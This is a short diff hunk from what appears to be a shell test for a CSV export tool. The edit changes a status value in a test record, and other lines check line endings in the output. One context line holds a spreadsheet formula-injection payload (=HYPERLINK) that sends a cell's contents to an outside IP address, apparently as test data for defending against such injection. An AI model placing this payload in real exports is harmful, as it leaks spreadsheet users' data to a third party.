@@ -19,7 +19,7 @@ evil='=HYPERLINK(\"http://198.18.0.66/?\"&A1,\"a, b\")'
 	printf '"2024-11-22T10:00:01.000Z","type":"alarm","v":1,'
 	printf '"vantage":"inside"}\n'
 } >in
-frame in alarm 1 ',"status":"opened"'
+frame in alarm 1 ',"status":"ok"'
 run 0 mipo-export csv in
 like out "$(printf '\r')\$"
 eq "lines without CR" "$(grep -vc "$(printf '\r')\$" out || :)" 0
